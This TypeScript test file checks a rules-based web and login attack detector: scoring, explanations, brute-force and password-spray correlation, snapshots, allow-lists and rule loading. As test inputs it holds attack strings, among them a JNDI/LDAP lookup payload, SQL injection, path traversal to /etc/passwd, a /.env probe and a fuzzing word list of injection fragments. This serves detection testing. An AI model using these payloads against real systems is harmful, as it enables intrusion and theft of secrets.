import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { OddlineError } from '../../../src/core/errors.ts'
import { RulesDetector } from '../../../src/detectors/rules/detector.ts'
import { compileSource } from '../../../src/detectors/rules/loading/compile.ts'
import { loadRules } from '../../../src/detectors/rules/loading/load.ts'
import { HttpMatcher } from '../../../src/detectors/rules/matching/match-http.ts'
import { requestBlock, type SecurityFields, securityBlock } from '../../../src/detectors/rules/selftest/events.ts'

const shipped = loadRules(['config/rules'])
const START = Date.UTC(2024, 0, 2, 12)

function directoryOf(files: Readonly<Record<string, string>>): string {
  const directory = mkdtempSync(join(tmpdir(), 'oddline-rules-'))
  for (const [name, text] of Object.entries(files)) writeFileSync(join(directory, name), text)
  return directory
}

function simpleRule(id: string, detection: string): string {
  return `title: ${id}\nid: ${id}\nlogsource: {category: webserver}\ndetection:\n  ${detection}\n  condition: selection\n`
}

function failures(count: number, source_ip = '192.0.2.1', from = START): SecurityFields[] {
  return Array.from({ length: count }, (_, i) => ({
    event_type: 'login_failure',
    user: 'ann',
    source_ip,
    time: from + i * 1000,
  }))
}

const success: SecurityFields = {
  event_type: 'login_success',
  user: 'ann',
  source_ip: '192.0.2.1',
  time: START + 60_000,
}

describe('RulesDetector', () => {
  it('abstains where no rule matches and scores by the level of the strongest that does', () => {
    const scores = new RulesDetector(shipped).score(
      requestBlock([
        { target: '/products/7' },
        { target: '/?x=$%7Bjndi:ldap://203.0.113.5/a%7D' },
        { target: '/.env' },
      ]),
    )
    expect(scores[0]).toBeNaN()
    expect(scores[1]).toBeCloseTo(0.95)
    expect(scores[2]).toBeCloseTo(0.5)
  })

  it('explains a match by the field and the text as the rule saw it', () => {
    const detector = new RulesDetector(shipped)
    const block = requestBlock([{ target: '/i?id=1%27%20UNION/**/SELECT%201' }])
    const [score] = detector.score(block)
    const evidence = detector.explain(block, 0, score)
    expect(evidence).toMatchObject({ detector: 'rules', score })
    expect(evidence.summary).toContain('union select 1')
  })

  it('says in words what a correlation counted and of whom, and of a rule the text that says the most', () => {
    const detector = new RulesDetector(shipped)
    const users = ['ann', 'bob', 'cid', 'dora', 'emil', 'fay', 'gus', 'hal']
    const spray = users.map((user, i) => ({ ...failures(1)[0], user, time: START + i * 1000 }))
    const created = { event_type: 'account_change', message: 'new user: name=eve, UID=1002' }
    const block = securityBlock([...spray, created])
    const scores = detector.score(block)
    expect(detector.explain(block, 7, scores[7]).summary).toBe(
      'Password spray from one address: 8 different values of user in 8 events within 1 h, source_ip=192.0.2.1',
    )
    expect(detector.explain(block, 8, scores[8]).summary).toBe(
      'Account created or removed: message new user: name=eve, UID=1002',
    )
  })

  it('does not report an informational rule that feeds a correlation, even one that says `generate`', () => {
    const sudo = { event_type: 'sudo', program: 'sudo', user: 'ann', host: 'web1', time: START + 70_000 }
    const on = (event: SecurityFields) => ({ ...event, host: 'web1' })
    expect(new RulesDetector(shipped).score(securityBlock([sudo]))[0]).toBeNaN()
    const scores = new RulesDetector(shipped).score(securityBlock([...failures(10), success, sudo].map(on)))
    expect(scores[11]).toBeCloseTo(0.95)
  })

  it('tells a brute force once, however long it goes on, and again after a pause', () => {
    const detector = new RulesDetector(shipped)
    const day = 86_400_000
    const events = [...failures(400), ...failures(50, '192.0.2.1', START + day)]
    const scores = detector.score(securityBlock(events))
    expect([...scores.keys()].filter((i) => !Number.isNaN(scores[i]))).toEqual([9, 409])
  })

  it('counts by the time of events, so that a line out of order still counts', () => {
    const shuffled = failures(10).map((event, i) => ({ ...event, time: START + ((i * 7) % 10) * 1000 }))
    expect(new RulesDetector(shipped).score(securityBlock(shuffled))[9]).toBeCloseTo(0.75)
  })

  it('goes on after a restart as if there had been none', () => {
    const events = [...failures(12), success]
    const whole = new RulesDetector(shipped)
    const fresh = whole.snapshot()
    const expected = whole.score(securityBlock(events))
    const [first, second] = [new RulesDetector(shipped), new RulesDetector(shipped)]
    for (let cut = 0; cut <= events.length; cut++) {
      first.restore(fresh)
      const head = first.score(securityBlock(events.slice(0, cut)))
      second.restore(first.snapshot())
      const tail = second.score(securityBlock(events.slice(cut)))
      expect([...head, ...tail]).toEqual([...expected])
      expect(second.snapshot()).toEqual(whole.snapshot())
    }
  })

  it('refuses a snapshot that it cannot read, and is then as new', () => {
    const detector = new RulesDetector(shipped)
    detector.score(securityBlock(failures(9)))
    expect(() => detector.restore(Buffer.from('{"version":99}'))).toThrow(OddlineError)
    expect(detector.score(securityBlock(failures(1)))[0]).toBeNaN()
    expect([...detector.counts.values()]).toEqual([1])
  })

  it('keeps windows when rules are replaced', () => {
    const detector = new RulesDetector(shipped)
    detector.score(securityBlock(failures(9)))
    detector.replace(loadRules(['config/rules']))
    expect(detector.score(securityBlock(failures(1, '192.0.2.1', START + 9000)))[0]).toBeCloseTo(0.75)
  })

  it('obeys overrides and allow-lists until they expire', () => {
    const attack = { target: '/.env', client_ip: '10.1.2.3', time: START }
    const allow = [{ client: '10.0.0.0/8', expires: '2024-01-03', reason: 'our own scan' }]
    const detector = new RulesDetector(shipped, { allow })
    const later = { ...attack, time: Date.UTC(2024, 0, 4) }
    const scores = detector.score(requestBlock([attack, later]))
    expect(scores[0]).toBeNaN()
    expect(scores[1]).toBeCloseTo(0.5)
    const id = shipped.rules.find(({ title }) => title.startsWith('Request for a source, secret'))!.id
    const raised = new RulesDetector(shipped, { overrides: { [id]: { level: 'critical' } } })
    expect(raised.score(requestBlock([attack]))[0]).toBeCloseTo(0.95)
    const off = new RulesDetector(shipped, { overrides: { [id]: { enabled: false } } })
    expect(off.score(requestBlock([attack]))[0]).toBeNaN()
  })

  it('asks the allow-list about the client of the very event, also where the address alone decided the rule', () => {
    const allow = [{ client: '10.0.0.0/8', reason: 'our own scan' }]
    const clients = ['10.1.1.1', '203.0.113.9', '10.1.1.2', '203.0.113.9']
    const events = clients.map((client_ip) => ({ target: '/a?f=../../../etc/passwd', client_ip, time: START }))
    const scores = new RulesDetector(shipped, { allow }).score(requestBlock(events))
    expect([...scores].map((score) => Number.isNaN(score))).toEqual([true, false, true, false])
  })

  it('refuses an allow-list entry that would silence everything', () => {
    expect(() => new RulesDetector(shipped, { allow: [{ reason: 'oops' }] })).toThrow(/would suppress every match/)
  })

  it('finds by prefilter what evaluating every rule finds', () => {
    const words = [
      ...[
        "'",
        ' or ',
        '1=1',
        ' ',
        '%27',
        '+',
        '<script',
        '>',
        '../',
        'etc/passwd',
        ';',
        'cat ',
        '|id',
        '$(',
        '{{7*7}}',
      ],
      ...[
        'a',
        'sqlmap',
        '%2b',
        'dir',
        'c:',
        '\u00e9',
        '()',
        ' {',
        '-',
        '&',
        '/**/',
        'union',
        'select',
        '%2527',
        '=',
        '.env',
        '"',
        'alert(1)',
        '%0d%0aset-cookie:',
        '\\u0027',
        '${jndi:',
      ],
    ]
    const source = compileSource(shipped, 'http', {})!
    const matcher = new HttpMatcher(source)
    const text = fc.array(fc.constantFrom(...words), { maxLength: 12 }).map((parts) => parts.join(''))
    const status = fc.constantFrom(200, 404, 500)
    const padding = fc.constantFrom(0, 0, 3, 4000, 9000)
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, text, status, padding), { minLength: 1, maxLength: 4 }), (events) => {
        const requests = events.map(([path, user_agent, referer, code, pad]) => ({
          target: `/p?q=${'x'.repeat(pad)}${path}${'y'.repeat(pad)}`,
          user_agent,
          referer,
          status: code,
        }))
        // The second half repeats the first, so that what is remembered is held to the same.
        const block = requestBlock([...requests, ...requests])
        const found = Array.from({ length: block.count }, (): readonly number[] => [])
        matcher.match(block, (index, rules) => {
          found[index] = [...rules]
        })
        for (const [index, rules] of found.entries()) {
          matcher.view.move(block, index)
          expect(rules).toEqual([...source.rules.keys()].filter((i) => source.rules[i].matches(matcher.view)))
        }
      }),
      { numRuns: 300 },
    )
  })
})

describe('loadRules', () => {
  it('names every broken file at once', () => {
    const directory = directoryOf({
      'a.yml': simpleRule('a', 'selection: {cs-uri-query|contians: x}'),
      'b.yml': simpleRule('b', "selection: {cs-uri-query|re: '(?=x)'}"),
      'c.yml': 'title: [',
    })
    const attempt = () => loadRules([directory])
    expect(attempt).toThrow(/contians/)
    expect(attempt).toThrow(/cannot run in linear time/)
    expect(attempt).toThrow(/c\.yml/)
  })

  it('refuses two rules of one id and a reference to none', () => {
    const rule = simpleRule('same', 'selection: {cs-uri-query: x}')
    expect(() => loadRules([directoryOf({ 'a.yml': rule, 'b.yml': rule })])).toThrow(/is already used by/)
    const correlation = 'title: c\ncorrelation: {type: event_count, rules: [gone], timespan: 1m, condition: {gte: 2}}'
    expect(() => loadRules([directoryOf({ 'a.yml': correlation })])).toThrow(/"gone"/)
  })

  it('applies filters to the rules that they name', () => {
    const filter =
      'title: f\nlogsource: {category: webserver}\nfilter:\n  rules: [a]\n  selection: {c-ip: 10.0.0.1}\n  condition: not selection\n'
    const set = loadRules([
      directoryOf({ 'a.yml': simpleRule('a', 'selection: {cs-uri-query|contains: secret}'), 'f.yml': filter }),
    ])
    const scores = new RulesDetector(set).score(
      requestBlock([
        { target: '/secret', client_ip: '10.0.0.1' },
        { target: '/secret', client_ip: '10.0.0.2' },
      ]),
    )
    expect(scores[0]).toBeNaN()
    expect(scores[1]).toBeCloseTo(0.5)
  })
})
